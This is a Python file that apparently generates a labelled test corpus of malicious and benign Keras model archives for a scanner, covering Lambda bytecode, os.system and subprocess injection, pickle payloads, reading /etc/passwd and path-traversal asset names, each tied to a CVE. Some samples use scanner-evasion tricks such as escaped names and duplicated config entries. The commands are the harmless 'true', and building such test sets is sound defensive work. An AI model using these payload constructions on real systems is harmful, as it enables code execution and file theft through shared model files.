# SPDX-License-Identifier: Apache-2.0
"""Keras archives and architectures. Their H5 siblings need h5py and stand in frameworks/."""
import base64
import json
import marshal

from assemble import hdf5, zips
from assemble.pickles import attack

CODE = base64.b64encode(marshal.dumps(compile("lambda x: __import__('os').system('true') or x", "m", "eval"))).decode()
LAMBDA = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {
    "class_name": "__lambda__", "config": {"code": CODE, "defaults": None, "closure": None}}, "arguments": {}},
    "registered_name": None}


def layer(kind: str, module: str = "keras.layers", **config) -> dict:
    return {"module": module, "class_name": kind, "config": {"name": kind.lower(), "trainable": True, "dtype": "float32", **config},
            "registered_name": None, "build_config": {"input_shape": [None, 4]}}


GLOROT = {"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": None}, "registered_name": None}
DENSE = layer("Dense", units=2, activation="linear", use_bias=True, kernel_initializer=GLOROT)
INPUT = layer("InputLayer", batch_shape=[None, 4])


def sequential(*layers, **more) -> dict:
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [INPUT, *layers]},
            "registered_name": None, **more}


def function(name: str, module: str, registered: str = "function") -> dict:
    return {"module": module, "class_name": "function", "config": name, "registered_name": registered}


def keras(config, more: dict | None = None, raw: bytes | None = None) -> bytes:
    return zips.plain({"metadata.json": b'{"keras_version": "3.5.0", "date_saved": "2026-01-01@00:00:00"}',
                       "config.json": raw or json.dumps(config).encode(),
                       "model.weights.h5": hdf5.empty(), **(more or {})})


def lambdas() -> dict:
    """Where a Lambda can stand: the configuration of each."""
    wrapper = layer("TimeDistributed", layer=LAMBDA)
    return {"at top level": sequential(LAMBDA), "in a wrapper": sequential(wrapper),
            "in a model within the model": sequential(sequential(DENSE, LAMBDA)),
            "between honest layers": sequential(DENSE, LAMBDA, DENSE)}


def injections() -> dict:
    evil = {"module": "os", "class_name": "system", "config": {"command": "true"}, "registered_name": None}
    return {
        "module and function of os": (sequential(layer("Activation", activation=function("system", "os"))), "CVE-2025-1550"),
        "a class outside of Keras": (sequential({"module": "subprocess", "class_name": "Popen", "config": {"args": ["true"]},
                                                 "registered_name": "Popen"}), "CVE-2025-1550"),
        "keras.utils.get_file": (sequential(layer("Activation", activation={"module": "keras.utils", "class_name": "get_file",
            "config": {"fname": "x", "origin": "http://host.invalid/x"}, "registered_name": "get_file"})), "CVE-2025-8747"),
        "enable_unsafe_deserialization first": (sequential(layer("Activation", activation=function(
            "enable_unsafe_deserialization", "keras.config")), LAMBDA), "CVE-2025-9906"),
        "TorchModuleWrapper": (sequential(layer("TorchModuleWrapper", module={"class_name": "__bytes__", "config": {
            "value": base64.b64encode(attack(2)).decode()}})), "CVE-2025-49655"),
        "in an initializer": (sequential(layer("Dense", units=2, kernel_initializer=evil)), "own"),
        "in compile_config": (sequential(DENSE, compile_config={"optimizer": "adam", "loss": evil, "metrics": None}), "own"),
    }


def add(corpus):
    case = corpus.family("keras-lambda", "Keras .keras: Lambda with bytecode")
    for where, config in lambdas().items():
        case("malicious", where, keras(config), name="model.keras", source="CVE-2024-3660")
    escaped = json.dumps(sequential(LAMBDA)).replace('"Lambda"', '"\\u004cambda"').replace("__lambda__", "\\u005f_lambda__")
    case("malicious", "the names escaped", keras(None, raw=escaped.encode()), name="model.keras")
    case("malicious", "the archive is called .zip", keras(sequential(LAMBDA)), name="model.zip")
    twice = zips.archive([zips.Member("metadata.json", b'{"keras_version": "3.5.0"}'),
                          zips.Member("config.json", json.dumps(sequential(DENSE)).encode()),
                          zips.Member("config.json", json.dumps(sequential(LAMBDA)).encode())])
    case("malicious", "a second config.json", twice, name="model.keras")
    doubled = json.dumps(sequential(DENSE))[:-1] + ', "config": ' + json.dumps(sequential(LAMBDA)["config"]) + "}"
    case("malicious", "a second key `config`", keras(None, raw=doubled.encode()), name="model.keras")

    case = corpus.family("keras-injection", "Keras .keras: module and function injection")
    for what, (config, source) in injections().items():
        case("malicious", what, keras(config), name="model.keras", source=source)

    case = corpus.family("keras-files", "Keras: files read, assets, architectures")
    case("malicious", "StringLookup reads a file", keras(sequential(layer("StringLookup", vocabulary="/etc/passwd"))),
         name="model.keras", source="CVE-2025-12058")
    case("malicious", "a pickle among the assets", keras(sequential(DENSE), {"assets/vocab.pkl": attack()}), name="model.keras")
    case("malicious", "architecture as JSON with a Lambda", json.dumps(sequential(LAMBDA)), name="model.json")
    yaml = "backend: tensorflow\nclass_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config:\n      function: !!python/tuple\n" \
           f"      - {CODE}\n      - null\n      - null\nkeras_version: 2.3.0\n"
    case("malicious", "architecture as YAML with a Lambda", yaml, name="model.yaml", source="CVE-2021-37678")
    case("malicious", "a path that climbs in an asset's name", keras(sequential(DENSE), {"assets/../../x.py": b"x=1"}),
         name="model.keras", source="CVE-2025-12638")

    case = corpus.family("keras-honest", "Keras .keras: honest")
    kinds = {"Dense": DENSE, "StringLookup with its words": layer("StringLookup", vocabulary=["a", "b"], invert=False),
             "Embedding": layer("Embedding", input_dim=5, output_dim=2, embeddings_initializer=GLOROT),
             "Bidirectional LSTM": layer("Bidirectional", layer=layer("LSTM", units=2, activation="tanh")),
             "Activation by name": layer("Activation", activation="relu"),
             "MultiHeadAttention": layer("MultiHeadAttention", num_heads=2, key_dim=2)}
    for what, one in kinds.items():
        case("benign", what, keras(sequential(one, DENSE)), name="model.keras")
    optimizer = {"module": "keras.optimizers", "class_name": "Adam", "config": {"learning_rate": 0.001}, "registered_name": None}
    case("benign", "compiled", keras(sequential(DENSE, compile_config={"optimizer": optimizer, "loss": "mse", "metrics": ["mae"]})),
         name="model.keras")
    case("benign", "a model in the model", keras(sequential(sequential(DENSE), DENSE)), name="model.keras")
    case("benign", "architecture as JSON", json.dumps(sequential(DENSE)), name="model.json")
